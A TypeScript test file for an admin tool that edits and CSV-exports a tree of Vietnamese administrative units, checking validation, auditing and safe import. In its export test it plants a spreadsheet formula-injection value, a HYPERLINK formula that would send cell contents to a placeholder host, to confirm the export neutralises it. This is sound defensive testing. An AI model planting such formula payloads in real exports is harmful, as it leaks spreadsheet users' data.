import { parse } from 'csv-parse/sync';
import { sql } from '../db';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { staffUser } from '$tests/helpers/staff';
import { startTestApp } from '$tests/helpers/test-app';
import type { App } from '../app';
import { listAudit } from '../audit';
import * as unitsAdmin from './admin';
import { neutralise } from '../exports';
import * as unitsCsv from './csv';

let app: App;
let by: unitsAdmin.By;
const snapshot = () => unitsAdmin.listRecords(app.db);

beforeAll(async () => {
	app = await startTestApp();
	const admin = await staffUser(app, 'admin');
	by = { actor: { id: admin.id, email: admin.email }, client: '192.0.2.1' };
});
afterAll(() => app.db.close());

/** The new ward's record as stored now. */
const ward = async () => (await unitsAdmin.getRecord(app.db, 'AG.LX.QZ'))!;
/** What the newest `unit_changed` entry says changed. */
const lastChange = async () => (await listAudit(app.db, { action: 'unit_changed' }))[0]!.detail;

const newWard = {
	parent: 'AG.LX',
	code: 'AG.LX.QZ',
	kind: 'commune',
	nameVi: '  Phường Mỹ Xuyên  ',
	nameEn: 'My Xuyen Ward',
	validFrom: '2020-01-01'
};

describe('editing the unit tree', () => {
	it('adds a child unit with trimmed, NFC names and audits it', async () => {
		const decomposed = 'Phu\u031Bo\u031B\u0300ng Mỹ Xuyên'; // "Phường" in NFD
		const out = await unitsAdmin.create(app.db, by, { ...newWard, nameVi: ` ${decomposed} ` });
		expect(out).toEqual({ ok: true });
		const unit = await unitsAdmin.getRecord(app.db, 'AG.LX.QZ');
		expect(unit).toEqual({
			code: 'AG.LX.QZ',
			parentCode: 'AG.LX',
			kind: 'commune',
			nameVi: 'Phường Mỹ Xuyên'.normalize('NFC'),
			nameEn: 'My Xuyen Ward',
			validFrom: '2020-01-01',
			validTo: null
		});
		expect(unit!.nameVi).toBe(unit!.nameVi.normalize('NFC'));
		const [entry] = await listAudit(app.db, { action: 'unit_created' });
		expect(entry).toMatchObject({ target: 'AG.LX.QZ', actorEmail: by.actor.email });
	});

	it.each([
		[{ code: 'AG.LX.QZ' }, 'code', 'code_taken'],
		[{ code: 'ag.lx.zz' }, 'code', 'code_invalid'],
		[{ code: 'AG..ZZ' }, 'code', 'code_invalid'],
		[{ code: 'AG.ZZ', parent: 'AG.NOPE' }, 'parent', 'parent_unknown'],
		[{ code: 'AG.ZZ', kind: 'Xã!' }, 'kind', 'kind_invalid'],
		[{ code: 'AG.ZZ', nameVi: '   ' }, 'nameVi', 'name_required'],
		[{ code: 'AG.ZZ', nameVi: 'Xã\u202Eabc' }, 'nameVi', 'name_chars'],
		[{ code: 'AG.ZZ', nameEn: 'Ward\u0007' }, 'nameEn', 'name_chars'],
		[{ code: 'AG.ZZ', validFrom: '2020-13-01' }, 'validFrom', 'date_invalid']
	])('refuses %o with %s: %s, changing nothing', async (input, field, key) => {
		const before = await snapshot();
		const out = await unitsAdmin.create(app.db, by, { ...newWard, ...input });
		expect(out).toEqual({ ok: false, errors: expect.objectContaining({ [field]: key }) });
		expect(await snapshot()).toEqual(before);
	});

	it('renames a unit, keeping its code, and audits before and after', async () => {
		const out = await unitsAdmin.rename(app.db, by, 'AG.LX.QZ', {
			nameVi: 'Phường Mỹ Xuyên mới',
			nameEn: 'My Xuyen Ward'
		});
		expect(out).toEqual({ ok: true });
		expect((await ward()).nameVi).toBe('Phường Mỹ Xuyên mới');
		expect(await lastChange()).toEqual({
			before: { nameVi: 'Phường Mỹ Xuyên' },
			after: { nameVi: 'Phường Mỹ Xuyên mới' }
		});
	});

	it('moves a unit under another parent', async () => {
		expect(await unitsAdmin.move(app.db, by, 'AG.LX.QZ', { parent: 'AG.CD' })).toEqual({
			ok: true
		});
		expect((await ward()).parentCode).toBe('AG.CD');
		expect(await lastChange()).toEqual({
			before: { parentCode: 'AG.LX' },
			after: { parentCode: 'AG.CD' }
		});
	});

	it('refuses to move a unit under itself or its own descendant', async () => {
		const before = await snapshot();
		expect(await unitsAdmin.move(app.db, by, 'AG.LX', { parent: 'AG.LX' })).toEqual({
			ok: false,
			errors: { parent: 'cycle' }
		});
		expect(await unitsAdmin.move(app.db, by, 'AG', { parent: 'AG.LX.BD' })).toEqual({
			ok: false,
			errors: { parent: 'cycle' }
		});
		expect(await unitsAdmin.move(app.db, by, 'AG.LX', { parent: 'AG.NOPE' })).toEqual({
			ok: false,
			errors: { parent: 'parent_unknown' }
		});
		expect(await snapshot()).toEqual(before);
	});

	it('deactivates and reactivates a unit; an end before the start is refused', async () => {
		expect(await unitsAdmin.deactivate(app.db, by, 'AG.LX.QZ', { validTo: '2019-12-31' })).toEqual({
			ok: false,
			errors: { validTo: 'date_order' }
		});
		expect(await unitsAdmin.deactivate(app.db, by, 'AG.LX.QZ', { validTo: '' })).toMatchObject({
			ok: false
		});
		expect(await unitsAdmin.deactivate(app.db, by, 'AG.LX.QZ', { validTo: '2025-06-30' })).toEqual({
			ok: true
		});
		expect((await ward()).validTo).toBe('2025-06-30');
		expect(await unitsAdmin.reactivate(app.db, by, 'AG.LX.QZ')).toEqual({ ok: true });
		expect((await ward()).validTo).toBeNull();
		expect(await lastChange()).toEqual({
			before: { validTo: '2025-06-30' },
			after: { validTo: null }
		});
	});
});

describe('the unit list as CSV', () => {
	it('exports every unit, parents first, with a BOM and formula cells neutralised', async () => {
		await unitsAdmin.create(app.db, by, {
			...newWard,
			code: 'AG.LX.F1',
			nameVi: '=HYPERLINK("http://x/?d="&A1,"bấm")',
			nameEn: '@SUM(A1)'
		});
		const { csv, count } = await unitsCsv.exportCsv(app.db);
		expect(csv.startsWith('\uFEFFcode,parent,kind,name_vi,name_en,valid_from,valid_to\r\n')).toBe(
			true
		);
		const rows: string[][] = parse(csv, { bom: true, from_line: 2 });
		expect(rows).toHaveLength(count);
		expect(rows[0]![0]).toBe('AG');
		const seen = new Set<string>();
		for (const [code, parent] of rows) {
			if (parent) expect(seen.has(parent)).toBe(true);
			seen.add(code!);
		}
		const formula = rows.find((r) => r[0] === 'AG.LX.F1')!;
		expect(formula[3]).toBe(`'=HYPERLINK("http://x/?d="&A1,"bấm")`);
		expect(formula[4]).toBe(`'@SUM(A1)`);
		expect(neutralise('-2+3')).toBe(`'-2+3`);
		expect(neutralise('\tx')).toBe(`'\tx`);
		expect(neutralise('Sở Nội vụ')).toBe('Sở Nội vụ');
	});

	it('imports its own export back without changing anything', async () => {
		const before = await snapshot();
		const { csv } = await unitsCsv.exportCsv(app.db);
		const plan = await unitsCsv.applyImport(app.db, by, csv);
		expect(plan).toMatchObject({ created: [], changed: [], errors: [], unchanged: before.length });
		expect(await snapshot()).toEqual(before);
		const [entry] = await listAudit(app.db, { action: 'units_imported' });
		expect(entry!.detail).toEqual({ created: 0, changed: 0, unchanged: before.length });
	});

	it('previews new and changed units, then applies them in one go', async () => {
		const csv = [
			'code,parent,kind,name_vi,name_en,valid_from,valid_to',
			'AG.NEW,AG,district,Huyện Mới,New District,2025-07-01,',
			'AG.NEW.A,AG.NEW,commune,"Xã A, mới",Commune A,,',
			'AG.LX.QZ,AG.NEW,commune,Phường Mỹ Xuyên mới,My Xuyen Ward,2020-01-01,2025-06-30'
		].join('\n');
		const before = await snapshot();
		const plan = await unitsCsv.planImport(app.db, csv);
		expect(plan.errors).toEqual([]);
		expect(plan.created.map((u) => u.code)).toEqual(['AG.NEW', 'AG.NEW.A']);
		expect(plan.changed.map((c) => c.after.code)).toEqual(['AG.LX.QZ']);
		expect(await snapshot()).toEqual(before); // a preview changes nothing
		await unitsCsv.applyImport(app.db, by, csv);
		expect(await unitsAdmin.getRecord(app.db, 'AG.NEW.A')).toMatchObject({
			parentCode: 'AG.NEW',
			nameVi: 'Xã A, mới'
		});
		expect(await unitsAdmin.getRecord(app.db, 'AG.LX.QZ')).toMatchObject({
			parentCode: 'AG.NEW',
			validTo: '2025-06-30'
		});
	});

	it('reads the seed format too (no date columns)', async () => {
		const csv =
			'code,parent,kind,name_vi,name_en\nAG.SEED,AG,district,Huyện Hạt Giống,Seed District\n';
		const plan = await unitsCsv.applyImport(app.db, by, csv);
		expect(plan.errors).toEqual([]);
		expect(await unitsAdmin.getRecord(app.db, 'AG.SEED')).toMatchObject({
			validFrom: null,
			validTo: null
		});
	});

	it('keeps the dates of existing units when the file has no date columns', async () => {
		await app.db.query(sql`update units set valid_from = '2019-01-01', valid_to = '2025-06-30'
			where code = 'AG.CD'`);
		const csv =
			'code,parent,kind,name_vi,name_en\nAG.CD,AG,district,Thành phố Châu Đốc,Chau Doc City\n';
		const plan = await unitsCsv.applyImport(app.db, by, csv);
		expect(plan.errors).toEqual([]);
		expect(await unitsAdmin.getRecord(app.db, 'AG.CD')).toMatchObject({
			validFrom: '2019-01-01',
			validTo: '2025-06-30'
		});
	});

	it('rejects a whole file with one bad row, listing the error with its row', async () => {
		const before = await snapshot();
		const csv = [
			'\uFEFFcode,parent,kind,name_vi,name_en',
			'AG.OK1,AG,district,Huyện Một,District One',
			'AG.OK2,AG.NOPE,district,Huyện Hai,District Two',
			'AG.OK3,AG,district,Huyện Ba,District Three'
		].join('\r\n');
		const plan = await unitsCsv.applyImport(app.db, by, csv);
		expect(plan.errors).toEqual([{ row: 3, column: 'parent', key: 'parent_unknown' }]);
		expect(await snapshot()).toEqual(before);
	});

	it.each([
		['a cycle', 'AG.LX,AG.LX.BD,district,Long Xuyên,Long Xuyen,,', 'parent', 'cycle'],
		[
			'a duplicate code',
			'AG.X1,AG,district,A,A,,\nAG.X1,AG,district,B,B,,',
			'code',
			'code_duplicate'
		],
		['a bad date', 'AG.X2,AG,district,A,A,2020-02-30,', 'valid_from', 'date_invalid'],
		['dates out of order', 'AG.X3,AG,district,A,A,2021-01-01,2020-01-01', 'valid_to', 'date_order'],
		['a bidi override', 'AG.X4,AG,district,"A\u202Eb",A,,', 'name_vi', 'name_chars']
	])('reports %s', async (_, rows, column, key) => {
		const csv = `code,parent,kind,name_vi,name_en,valid_from,valid_to\n${rows}`;
		const plan = await unitsCsv.planImport(app.db, csv);
		expect(plan.errors).toContainEqual(expect.objectContaining({ column, key }));
	});

	it('rejects a wrong header and a malformed file', async () => {
		expect((await unitsCsv.planImport(app.db, 'code,name\nAG,x')).errors).toEqual([
			{ row: 1, column: null, key: 'header_invalid' }
		]);
		const bad = await unitsCsv.planImport(app.db, 'code,parent,kind,name_vi,name_en\nAG,"x');
		expect(bad.errors[0]!.key).toBe('csv_malformed');
	});
});
